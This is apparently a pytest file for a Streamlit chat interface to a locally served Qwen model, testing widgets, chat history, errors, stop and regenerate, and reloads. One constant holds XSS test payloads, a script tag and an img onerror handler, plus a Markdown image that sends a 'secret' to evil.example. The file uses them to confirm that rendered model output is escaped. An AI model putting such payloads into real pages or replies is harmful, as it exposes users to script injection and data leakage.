"""The Streamlit app, headless (``streamlit.testing.v1.AppTest``): widgets, history, errors,
safety of rendered model output. Most tests use a scripted backend so the reply text is known."""
from __future__ import annotations

import json
import sys
import time
import threading
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from qwen_trt.serving import service as serving
from fakes import ScriptedBackend
from qwen_trt.errors import EngineMismatchError
from qwen_trt.params import SamplingParams
from qwen_trt.serving.service import InferenceService
from qwen_trt.ui.state import PendingReply
from qwen_trt.ui.text import markdown_html

APP = str(Path(__file__).resolve().parents[1] / "app.py")
TIMEOUT = 30

PAYLOAD = ("<script>alert('xss')</script> <b>bold</b> <img src=x onerror=alert(1)> "
           "![leak](https://evil.example/collect?d=secret)")


@pytest.fixture(autouse=True)
def fresh_cache():
    st.cache_resource.clear()
    yield
    st.cache_resource.clear()


@pytest.fixture
def scripted(monkeypatch, tiny_tokenizer):
    """Serve a ScriptedBackend. ``scripted(text, *argv)`` sets its reply and the app's
    arguments, and returns the list of backends the app loads (one per process, normally)."""
    made: list[ScriptedBackend] = []
    reply = {"text": "Hello there!"}

    def fake_load(cfg):
        backend = ScriptedBackend(tiny_tokenizer, reply["text"], max_seq_len=cfg.max_seq_len or 4096)
        made.append(backend)
        return backend

    monkeypatch.setattr(serving, "load_backend", fake_load)

    def use(text: str, *argv: str) -> list[ScriptedBackend]:
        monkeypatch.setattr(sys, "argv", ["app.py", *argv])
        reply["text"] = text
        return made

    return use


def run_app() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def send(at: AppTest, text: str) -> AppTest:
    at.chat_input[0].set_value(text).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def history(at: AppTest) -> list[tuple[str, str]]:
    state = at.session_state["chat_state"]
    return [(m.role, m.content) for m in state.chat.messages]


def all_markdown(at: AppTest):
    return [m for m in at.markdown] + [m for m in at.sidebar.markdown]


def test_sidebar_controls_ranges_and_defaults(scripted):
    scripted("hi")
    at = run_app()
    sliders = {s.key: s for s in at.sidebar.slider}
    assert {"max_new_tokens", "temperature", "top_p", "top_k"} <= set(sliders)
    mx, temp, top_p = sliders["max_new_tokens"], sliders["temperature"], sliders["top_p"]
    assert (sliders["top_k"].min, sliders["top_k"].value) == (0, 20)
    assert (mx.min, mx.max, mx.value) == (128, 4096, 512)
    assert (temp.min, temp.max, temp.value) == (0.0, 1.5, 0.7)
    assert (top_p.max, top_p.value) == (1.0, 0.8) and top_p.min > 0
    assert at.sidebar.text_area(key="system_prompt").value == ""
    assert at.sidebar.button(key="clear").label == "Clear memory"
    info = " ".join(c.value for c in at.sidebar.caption)
    assert "scripted · fake-model · cpu · float32" in info
    assert len(at.chat_input) == 1 and len(at.chat_message) == 0


def test_sliders_drive_sampling_params(scripted):
    made = scripted("one two three four five six seven eight nine ten")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    at.sidebar.slider(key="temperature").set_value(0.0).run()
    send(at, "count")
    reply = history(at)[1][1]
    assert reply == "one two three four five six seven eight nine ten"
    assert len(made) == 1 and len(made[0].prompts) == 1


def test_message_streams_a_reply_into_history_and_clear_empties_it(scripted):
    scripted("Hello **there**, friend.\n\nSecond paragraph.")
    at = run_app()
    send(at, "hi")
    assert history(at) == [("user", "hi"),
                           ("assistant", "Hello **there**, friend.\n\nSecond paragraph.")]
    user, assistant = at.chat_message
    assert (user.name, assistant.name) == ("user", "assistant")
    assert user.html[0].value == markdown_html("hi")
    assert assistant.html[0].value == markdown_html(
        "Hello **there**, friend.\n\nSecond paragraph.")
    assert "<strong>there</strong>" in assistant.html[0].value        # formatting kept
    footer = assistant.caption[0].value
    assert "first token" in footer and "tokens/s" in footer

    send(at, "and again")
    assert [m.name for m in at.chat_message] == ["user", "assistant"] * 2
    assert len(history(at)) == 4

    at.sidebar.button(key="clear").click().run()
    assert history(at) == [] and len(at.chat_message) == 0
    send(at, "fresh start")                       # the next prompt has no old turns
    assert len(history(at)) == 2


def test_system_prompt_and_history_go_into_the_prompt(scripted, tiny_tokenizer):
    made = scripted("ok")
    at = run_app()
    at.sidebar.text_area(key="system_prompt").set_value("You are terse.").run()
    send(at, "first")
    send(at, "second")
    prompt = tiny_tokenizer.decode(made[0].prompts[-1])
    assert prompt.startswith("<|im_start|>system\nYou are terse.<|im_end|>")
    assert "<|im_start|>user\nfirst<|im_end|>\n<|im_start|>assistant\nok<|im_end|>" in prompt
    assert prompt.endswith("<|im_start|>user\nsecond<|im_end|>\n<|im_start|>assistant\n")


def test_model_output_html_and_images_render_as_text(scripted):
    scripted(PAYLOAD)
    at = run_app()
    send(at, "say something nasty")
    assert history(at)[1][1] == PAYLOAD            # history keeps the raw model text
    shown = at.chat_message[1].html[0].value
    assert shown == markdown_html(PAYLOAD)         # st.html: no Markdown parser reads it again
    assert "&lt;script&gt;" in shown and "&lt;b&gt;bold&lt;/b&gt;" in shown
    assert "![leak](https://evil" in shown and "<img" not in shown   # the image as text
    assert not at.chat_message[1].markdown                # nothing of it through st.markdown
    assert all(not m.proto.allow_html for m in all_markdown(at))
    send(at, "again")                              # re-rendered from history: same treatment
    assert at.chat_message[1].html[0].value == shown
    assert all(not m.proto.allow_html for m in all_markdown(at))


def test_message_too_long_shows_error_and_keeps_history(scripted):
    scripted("short reply", "--max-seq-len", "200")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    send(at, "hello")
    before = history(at)
    assert len(before) == 2
    send(at, "word " * 100)
    assert len(at.error) == 1
    assert "too long" in at.error[0].value and "Shorten it" in at.error[0].value
    assert history(at) == before
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user"]


def test_max_length_above_the_context_limit_is_explained(scripted):
    scripted("x", "--max-seq-len", "300")
    at = run_app()
    send(at, "hello")
    assert "leaves no room" in at.error[0].value and "lower it" in at.error[0].value
    assert history(at) == []


def test_empty_message_shows_error(scripted):
    scripted("reply")
    at = run_app()
    send(at, "hi")
    send(at, "   ")
    assert "empty" in at.error[0].value
    assert len(history(at)) == 2


def test_old_turns_dropped_note(scripted):
    scripted("a reply of a few words here", "--max-seq-len", "230")
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    for i in range(4):
        send(at, f"message number {i}")
    notes = [c.value for c in at.chat_message[-1].caption]
    assert any("oldest turn" in n and "left out of the prompt" in n for n in notes), notes
    state = at.session_state["chat_state"]
    assert state.notes[-1].dropped_turns >= 1
    assert len(history(at)) == 8                   # the page keeps every turn


def test_missing_model_folder_shows_what_to_do(monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "argv", ["app.py", "--model", str(tmp_path / "nope")])
    at = run_app()
    assert len(at.error) == 1
    msg = at.error[0].value
    assert "does not exist" in msg and "tiny-model" in msg
    assert len(at.chat_input) == 0


@pytest.mark.parametrize("error, words", [
    (EngineMismatchError("The engine in engines/a10 was built for NVIDIA A10, this GPU is an "
                         "H200: rebuild it with `qwen-trt build`."), "rebuild it"),
    (RuntimeError("CUDA out of memory\nTraceback details"),
     "Unexpected error while loading the engine (RuntimeError: CUDA out of memory)"),
])
def test_load_errors_show_one_line_not_a_traceback(monkeypatch, error, words):
    def fail(cfg):
        raise error

    monkeypatch.setattr(serving, "load_backend", fail)
    monkeypatch.setattr(sys, "argv", ["app.py"])
    at = run_app()                                  # asserts no st.exception (traceback) element
    assert len(at.error) == 1 and words in at.error[0].value
    assert "Traceback" not in at.error[0].value


def test_bad_app_option_shows_error(monkeypatch):
    monkeypatch.setattr(sys, "argv", ["app.py", "--backend", "nope"])
    at = run_app()
    assert "Unknown backend 'nope'" in at.error[0].value


def test_engine_failure_mid_reply_shows_error_and_keeps_history(scripted):
    made = scripted("fine")
    at = run_app()
    send(at, "first")

    def broken(prompt_ids, params):
        yield from ()
        raise RuntimeError("device lost")

    made[0].stream = broken
    send(at, "second")
    assert "device lost" in at.error[0].value
    assert history(at) == [("user", "first"), ("assistant", "fine")]


def test_reply_interrupted_by_a_rerun_is_kept_and_marked(scripted, tiny_tokenizer):
    scripted("unused")
    at = run_app()
    # A reply still streaming when the user acts: simulate the old run's pending request on a
    # stuck engine that has produced "Partial" so far.
    stuck = ScriptedBackend(tiny_tokenizer, "Partial answer")
    n = len(tiny_tokenizer.encode("Partial", add_special_tokens=False))
    released = threading.Semaphore(0)

    def stream(prompt_ids, params, _orig=stuck.stream):
        for i, tok in enumerate(_orig(prompt_ids, params)):
            if i == n - 1:             # the last token of "Partial": the next one never comes
                stuck.gate.clear()
                released.release()
            yield tok

    stuck.stream = stream
    svc = InferenceService(stuck)
    try:
        handle = svc.submit([1, 2, 3], SamplingParams(max_new_tokens=64, temperature=0))
        assert released.acquire(timeout=TIMEOUT)
        at.session_state["chat_state"].pending = PendingReply("tell me", handle)
        at.sidebar.slider(key="temperature").set_value(0.3).run()   # any click reruns
        assert history(at) == [("user", "tell me"), ("assistant", "Partial")]
        assert at.session_state["chat_state"].chat.messages[1].interrupted
        assert handle.cancelled and handle.done
        assert "interrupted" in at.chat_message[1].caption[0].value
    finally:
        svc.close()



def test_tiny_model_end_to_end(monkeypatch, tiny_model_dir):
    monkeypatch.setattr(sys, "argv", ["app.py", "--model", str(tiny_model_dir), "--device", "cpu"])
    at = run_app()
    assert "torch" in " ".join(c.value for c in at.sidebar.caption)
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    send(at, "Hello, how are you today?")
    (role_u, u), (role_a, a) = history(at)
    assert (role_u, u, role_a) == ("user", "Hello, how are you today?", "assistant")
    assert a.strip()
    assert at.session_state["chat_state"].notes[0].footer.count("tokens") == 2
    assert any("tiny random demo model" in i.value for i in at.info)   # said on the page


def test_a_real_model_gets_no_demo_note(scripted):
    scripted("hi")
    at = run_app()
    assert not any("demo model" in i.value for i in at.info)


# -- stop, regenerate, edit, downloads, reload ----------------------------------------

def slow_stream(backend, delay_s: float = 0.02):
    """Make ``backend`` yield one token every ``delay_s`` (a reply long enough to stop)."""
    orig = backend.stream

    def stream(prompt_ids, params):
        for tok in orig(prompt_ids, params):
            time.sleep(delay_s)
            yield tok

    backend.stream = stream


def test_stop_mid_reply_keeps_the_partial_marked_stopped_and_frees_the_engine(scripted):
    made = scripted(" ".join(f"word{i}" for i in range(400)))
    at = run_app()
    slow_stream(made[0])
    at.chat_input[0].set_value("talk a lot")
    with pytest.raises(RuntimeError, match="timed out"):    # AppTest stops the run like Stop does
        at.run(timeout=1.5)
    state = at.session_state["chat_state"]
    (u, a), = state.chat.turns()
    assert u.content == "talk a lot"
    assert a.interrupted and a.content.startswith("word0 word1")
    assert len(a.content) < len(made[0].text)               # cut short, not finished
    assert state.notes[0].metrics["finish_reason"] == "stopped"
    assert "stopped" in state.notes[0].footer
    assert state.pending is None
    at.run()                                                 # the next view shows it marked
    assert "stopped" in at.chat_message[1].caption[0].value
    assert at.chat_message[1].html[0].value == markdown_html(a.content)


def test_stop_button_of_a_regenerated_reply(scripted):
    made = scripted(" ".join(f"w{i}" for i in range(300)))
    at = run_app()
    at.sidebar.slider(key="max_new_tokens").set_value(128).run()
    send(at, "first")
    slow_stream(made[0], 0.05)
    made[0].gate.clear()             # the regenerated reply stalls after its first tokens...
    at.button(key="regenerate").click()
    threading.Timer(0.3, made[0].gate.set).start()
    with pytest.raises(RuntimeError, match="timed out"):
        at.run(timeout=1.0)
    state = at.session_state["chat_state"]
    assert len(state.chat.turns()) == 1 and state.chat.turns()[-1][1].interrupted
    # the chat box shows Stop only for a message it sent, a regenerated reply gets a Stop
    # button; its callback sets stop_requested and the next run keeps the partial, "stopped"
    from qwen_trt.ui.state import PendingReply
    made[0].gate.clear()
    svc = InferenceService(made[0])
    try:
        handle = svc.submit([1, 2, 3], SamplingParams(max_new_tokens=64, temperature=0))
        state.pending = PendingReply("again", handle)
        at.session_state["stop_requested"] = True
        at.run()
        assert "stopped" in at.chat_message[-1].caption[0].value
        assert handle.cancelled and state.pending is None
    finally:
        made[0].gate.set()
        svc.close()


def test_regenerate_replaces_the_last_reply_with_a_new_sample(scripted, tiny_tokenizer):
    made = scripted("first answer")
    at = run_app()
    send(at, "one")
    send(at, "two")
    made[0].text = "second answer"
    at.button(key="regenerate").click().run()
    assert not at.exception
    assert history(at) == [("user", "one"), ("assistant", "first answer"),
                           ("user", "two"), ("assistant", "second answer")]
    assert len(at.session_state["chat_state"].notes) == 2
    assert [m.name for m in at.chat_message] == ["user", "assistant"] * 2
    # the same prompt as the reply it replaces
    assert made[0].prompts[-1] == made[0].prompts[-2]


def test_edit_the_last_message_and_resend(scripted, tiny_tokenizer):
    made = scripted("reply")
    at = run_app()
    send(at, "one")
    send(at, "tow")
    at.button(key="edit").click().run()
    box = at.text_area(key="edit_text")
    assert box.value == "tow"
    box.set_value("two")
    made[0].text = "edited reply"
    next(b for b in at.get("button") if b.label == "Send").click().run()
    assert history(at) == [("user", "one"), ("assistant", "reply"),
                           ("user", "two"), ("assistant", "edited reply")]
    assert tiny_tokenizer.decode(made[0].prompts[-1]).endswith(
        "<|im_start|>user\ntwo<|im_end|>\n<|im_start|>assistant\n")
    assert "tow" not in tiny_tokenizer.decode(made[0].prompts[-1])
    # Cancel leaves the conversation as it is
    at.button(key="edit").click().run()
    next(b for b in at.get("button") if b.label == "Cancel").click().run()
    assert len(history(at)) == 4 and not at.session_state["editing"]


def test_download_holds_the_conversation_and_settings(scripted):
    from qwen_trt.ui.transcript import to_json, to_markdown

    scripted("The answer is **42**.")
    at = run_app()
    at.sidebar.slider(key="temperature").set_value(0.3).run()
    send(at, "What is the answer?")
    labels = [b.label for b in at.sidebar.get("download_button")]
    assert labels == ["Download chat (Markdown)", "Download chat (JSON)"]
    state = at.session_state["chat_state"]
    doc = json.loads(to_json(state.snapshot(), {"temperature": 0.3}, "scripted"))
    assert [m["content"] for m in doc["messages"]] == ["What is the answer?",
                                                        "The answer is **42**."]
    reply = doc["replies"][0]
    assert reply["metrics"]["tokens"] > 0 and reply["metrics"]["finish_reason"] == "stop"
    assert reply["params"]["temperature"] == 0.3
    md = to_markdown(state.snapshot(), {"temperature": 0.3}, "scripted")
    assert "What is the answer?" in md and "The answer is **42**." in md


def test_moving_a_slider_does_not_rerun_the_page(scripted):
    """The settings panel is a fragment: its widgets rerun only it (a reply keeps streaming)."""
    scripted("x")
    at = run_app()
    src = Path(APP).read_text()
    assert "@st.fragment\ndef settings_panel" in src
    at.sidebar.slider(key="top_k").set_value(5).run()
    assert at.session_state["top_k"] == 5


def test_reload_keeps_the_chat_and_unknown_ids_are_not_adopted(scripted):
    from qwen_trt.ui.store import process_store

    scripted("remembered")
    at = run_app()
    at.sidebar.text_area(key="system_prompt").set_value("Be kind.").run()
    at.sidebar.slider(key="top_k").set_value(3).run()
    send(at, "remember me")
    sid = at.query_params["chat"]
    sid = sid[0] if isinstance(sid, list) else sid
    assert len(sid) >= 20
    again = AppTest.from_file(APP, default_timeout=TIMEOUT)   # a reload: a new session
    again.query_params["chat"] = sid
    again.run()
    assert history(again) == [("user", "remember me"), ("assistant", "remembered")]
    assert again.sidebar.text_area(key="system_prompt").value == "Be kind."
    assert again.sidebar.slider(key="top_k").value == 3
    assert "first token" in again.chat_message[1].caption[0].value
    stranger = AppTest.from_file(APP, default_timeout=TIMEOUT)
    stranger.query_params["chat"] = "A" * len(sid)            # unknown (or guessed) id
    stranger.run()
    assert history(stranger) == []
    new = stranger.query_params["chat"]
    assert (new[0] if isinstance(new, list) else new) != "A" * len(sid)
    # Clear memory clears the saved copy too
    at.sidebar.button(key="clear").click().run()
    assert process_store().get(sid)["messages"] == []


def test_settings_moved_after_the_last_reply_survive_a_reload(scripted):
    """Saved on change (issue 35): not only when a turn ends or on Clear memory. Also before
    the first message, and without a new version (another tab's next save is no fork)."""
    from qwen_trt.ui.store import process_store

    scripted("ok")
    at = run_app()
    sid = at.query_params["chat"]
    sid = sid[0] if isinstance(sid, list) else sid
    at.sidebar.slider(key="temperature").set_value(1.2).run()       # no message yet
    fresh = AppTest.from_file(APP, default_timeout=TIMEOUT)
    fresh.query_params["chat"] = sid
    fresh.run()
    assert fresh.sidebar.slider(key="temperature").value == 1.2
    send(at, "hi")
    version = process_store().get(sid)["version"]
    at.sidebar.slider(key="top_k").set_value(7).run()                # after the last reply
    at.sidebar.slider(key="max_new_tokens").set_value(256).run()
    at.sidebar.text_area(key="system_prompt").set_value("Be brief.").run()
    assert process_store().get(sid)["version"] == version
    again = AppTest.from_file(APP, default_timeout=TIMEOUT)          # a reload
    again.query_params["chat"] = sid
    again.run()
    assert history(again) == [("user", "hi"), ("assistant", "ok")]
    assert again.sidebar.slider(key="top_k").value == 7
    assert again.sidebar.slider(key="max_new_tokens").value == 256
    assert again.sidebar.slider(key="temperature").value == 1.2
    assert again.sidebar.text_area(key="system_prompt").value == "Be brief."
    send(at, "more")                                   # the next save keeps them too
    assert process_store().get(sid)["settings"]["top_k"] == 7
    assert process_store().get(sid)["system_prompt"] == "Be brief."


def test_long_chats_draw_the_newest_turns_and_show_the_rest_on_request(scripted):
    from qwen_trt.ui.stream import HISTORY_WINDOW

    scripted("ok")
    at = run_app()
    send(at, "first")
    state = at.session_state["chat_state"]
    for i in range(HISTORY_WINDOW + 3):                # a long history, committed directly
        state.chat.add_exchange(f"q{i}", f"a{i}")
    at.run()
    total = len(state.chat.turns())
    assert len(at.chat_message) == 2 * HISTORY_WINDOW
    assert at.chat_message[-1].html[0].value == markdown_html(f"a{HISTORY_WINDOW + 2}")
    more = at.button(key="show_all")
    assert more.label == f"Show {total - HISTORY_WINDOW} earlier turns"
    more.click().run()
    assert len(at.chat_message) == 2 * total
    assert at.chat_message[0].html[0].value == markdown_html("first")


def test_sampling_sliders_and_penalties_reach_the_backend(scripted):
    made = scripted("fine")
    at = run_app()
    seen = []
    orig = made[0].stream

    def spy(prompt_ids, params):
        seen.append(params)
        return orig(prompt_ids, params)

    made[0].stream = spy
    sliders = {s.key for s in at.sidebar.slider}
    assert {"presence_penalty", "repetition_penalty"} <= sliders
    at.sidebar.slider(key="top_k").set_value(7).run()
    at.sidebar.slider(key="presence_penalty").set_value(1.5).run()
    at.sidebar.slider(key="repetition_penalty").set_value(1.2).run()
    send(at, "hello")
    (p,) = seen
    assert (p.top_k, p.presence_penalty, p.repetition_penalty) == (7, 1.5, 1.2)
    assert at.session_state["chat_state"].notes[0].params["presence_penalty"] == 1.5


def test_a_slow_load_shows_its_progress_then_the_chat(monkeypatch, tiny_tokenizer):
    from tqdm import tqdm

    seen = []

    def slow_load(cfg):
        with tqdm(total=4, desc="Capturing CUDA graphs", unit="graph") as bar:
            for _ in range(4):
                time.sleep(0.2)
                bar.update(1)
        seen.append(cfg)
        return ScriptedBackend(tiny_tokenizer, "ready")

    monkeypatch.setattr(serving, "load_backend", slow_load)
    monkeypatch.setattr(sys, "argv", ["app.py"])
    at = run_app()
    (box,) = at.status
    assert box.label.startswith("Model loaded in") and box.state == "complete"
    assert len(seen) == 1 and len(at.chat_input) == 1
    send(at, "hi")
    assert history(at)[1] == ("assistant", "ready")
    at.run()
    assert len(at.status) == 0                       # loaded once: no status box any more


def _url_chat(at: AppTest) -> str:
    sid = at.query_params["chat"]
    return sid[0] if isinstance(sid, list) else sid


def test_one_chat_in_two_tabs_forks_at_the_later_save(scripted):
    """Two tabs on one chat URL: the tab that saves on top of an older version gets a new chat
    (its own turns), says so in one line, and the original lists it."""
    from qwen_trt.ui.store import process_store

    scripted("ok")
    first = run_app()
    send(first, "one")
    sid = _url_chat(first)
    second = AppTest.from_file(APP, default_timeout=TIMEOUT)     # the same URL in a new tab
    second.query_params["chat"] = sid
    second.run()
    assert history(second) == [("user", "one"), ("assistant", "ok")]
    send(first, "two")                          # the first tab saves a newer version
    send(second, "three")                       # the second saved on top of an older one
    fork = _url_chat(second)
    assert fork != sid
    assert history(second) == [("user", "one"), ("assistant", "ok"),
                               ("user", "three"), ("assistant", "ok")]
    notes = [i.value for i in second.info if "another tab" in i.value]
    assert len(notes) == 1 and f"?chat={sid}" in notes[0]
    saved = process_store().get(sid)             # the original kept the first tab's turns
    assert [m["content"] for m in saved["messages"]] == ["one", "ok", "two", "ok"]
    assert saved["forks"] == [fork]
    assert [m["content"] for m in process_store().get(fork)["messages"]] == \
        ["one", "ok", "three", "ok"]
    first.run()                                  # the original links to the fork
    assert any(f"?chat={fork}" in c.value for c in first.caption)
    send(first, "four")                          # and both go on saving without more forks
    send(second, "five")
    assert _url_chat(first) == sid and _url_chat(second) == fork
    assert process_store().forks(sid) == [fork]
